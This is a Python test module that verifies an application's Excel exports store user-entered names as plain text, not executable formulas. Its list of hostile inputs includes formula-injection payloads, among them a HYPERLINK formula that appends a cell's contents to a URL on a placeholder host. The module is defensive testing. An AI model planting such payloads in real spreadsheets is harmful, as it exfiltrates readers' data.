"""Security: formula cells in every export, login throttling, API tokens (expiry, revocation, password
change), values that used to be 500s (huge ids, lone surrogates) and Chinese 422s.

The module prints one summary line of what it checked (issue 11: "it prints its counts"); every
count of formula cells, 5xx answers and open locks it reports must be 0 for the tests to pass.
Other helpers' security modules hold the scope matrix, hostile files and concurrency tests.
"""

from __future__ import annotations

from collections import Counter
from io import BytesIO

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from jijuqu.core.export import FORMULA_START, set_cell

pytestmark = pytest.mark.django_db

COUNTS: Counter = Counter()

# What a hostile user types into a name: a formula that would run in the reader's Excel.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "=1+1",
]


@pytest.fixture(scope="module", autouse=True)
def summary(request):
    yield
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    line = (
        "security: {workbooks} workbooks with {text_cells} hostile text cells checked, {formula_cells} formula cells; "
        "{login_attempts} wrong passwords, {locked} locked; {token_checks} token checks; "
        "{requests} hostile requests, {server_errors} server errors".format_map(
            {
                k: COUNTS[k]
                for k in (
                    "workbooks",
                    "text_cells",
                    "formula_cells",
                    "login_attempts",
                    "locked",
                    "token_checks",
                    "requests",
                    "server_errors",
                )
            }
        )
    )
    capture = request.config.pluginmanager.getplugin("capturemanager")
    if reporter is not None and capture is not None:
        with capture.global_and_fixture_disabled():  # what capsys.disabled() does, for a module
            reporter.write_line("")
            reporter.write_line(line)


# ---------------------------------------------------------------------------------------------------
# Formula injection: text is written as text in every workbook we produce


def assert_no_formulas(content: bytes, expected: list[str]) -> None:
    """No cell of any sheet is a formula, and each hostile text is there as text, unchanged, both
    for openpyxl and for the importer's reader (python-calamine), so the export imports back."""
    COUNTS["workbooks"] += 1
    wb = load_workbook(BytesIO(content))
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    COUNTS["formula_cells"] += 1
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    assert COUNTS["formula_cells"] == 0
    calamine = CalamineWorkbook.from_filelike(BytesIO(content))
    read_back = {
        v
        for name in calamine.sheet_names
        for row in calamine.get_sheet_by_name(name).to_python()
        for v in row
        if isinstance(v, str)
    }
    for text in expected:
        found = [t for t in texts if text in t]
        assert found, f"{text!r} missing from the workbook"
        for t in found:
            COUNTS["text_cells"] += 1
            assert texts[t].data_type == "s"
            assert texts[t].quotePrefix == t.startswith(FORMULA_START)
        assert any(text in v for v in read_back), f"{text!r} does not read back"


def test_set_cell_keeps_text_as_text_and_numbers_as_numbers():
    from openpyxl import Workbook

    ws = Workbook().active
    assert set_cell(ws["A1"], "=1+1").data_type == "s" and ws["A1"].value == "=1+1"
    assert ws["A1"].quotePrefix
    assert set_cell(ws["A2"], "#N/A").data_type == "s"  # not an error cell either
    assert set_cell(ws["A3"], "沁阳").quotePrefix is False
    assert set_cell(ws["A4"], 12).data_type == "n"
    # Control characters the format cannot hold are dropped instead of failing the export.
    assert set_cell(ws["A5"], "甲\x01乙").value == "甲乙"


def test_list_exports_write_hostile_names_as_text(login, world):
    from jijuqu.enterprises.models import Enterprise
    from jijuqu.projects.testing import make_project, report

    Enterprise.objects.filter(pk=world.enterprise_a.pk).update(name=HOSTILE[0])
    for i, name in enumerate(HOSTILE[1:]):
        report(make_project(world.zone_a, name, plan="100.00", code=f"F{i}"), 2024, 10, "1.00")
    client = login("province")
    assert_no_formulas(client.get("/enterprises/", {"export": "xlsx"}).content, HOSTILE[:1])
    assert_no_formulas(client.get("/projects/", {"period": "2024-10", "export": "xlsx"}).content, HOSTILE[1:])
    assert_no_formulas(client.get("/progress/", {"export": "xlsx"}).content, HOSTILE[1:])


def test_monthly_report_tables_write_hostile_names_as_text(world):
    from jijuqu.projects.analysis import Period
    from jijuqu.projects.testing import make_project, report
    from jijuqu.reports.builder import Area, build
    from jijuqu.reports.workbook import report_xlsx

    # Behind plan, so the names are in the lagging table too; the leader's name reaches 附表.
    for i, name in enumerate(HOSTILE):
        project = make_project(world.zone_a, name, total="1000.00", plan="1000.00", code=f"R{i}")
        report(project, 2024, 10, "1.00")
    world.zone_a.name = "=沁阳"
    world.zone_a.save()
    content = report_xlsx(build(Area.of(world.jiaozuo), Period(2024, 10)))
    assert_no_formulas(content, [*HOSTILE, "=沁阳"])


def test_error_workbook_writes_messages_as_text():
    from openpyxl import Workbook

    from jijuqu.imports.report import error_workbook

    wb = Workbook()
    wb.active.title = "台账"
    wb.active.append(["项目名称"])
    wb.active.append(["x"])
    source = BytesIO()
    wb.save(source)
    source.seek(0)
    errors = [{"sheet": "台账", "row": 2, "column": "", "message": HOSTILE[0]}]
    assert_no_formulas(error_workbook(source, errors), HOSTILE[:1])


def test_assessment_ranking_export_writes_hostile_names_as_text(world):
    from jijuqu.assessment.services import rank
    from jijuqu.assessment.testing import make_framework
    from jijuqu.assessment.workbook import ranking_xlsx

    framework = make_framework(world)
    framework.name = "=考核"
    framework.save()
    framework.groups.filter(name="经济总量").update(name="+经济")
    world.zone_b.name = HOSTILE[0]
    world.zone_b.save()
    content = ranking_xlsx(rank(framework, "2024"), world.user("admin"))
    assert_no_formulas(content, ["=考核", "+经济", HOSTILE[0]])
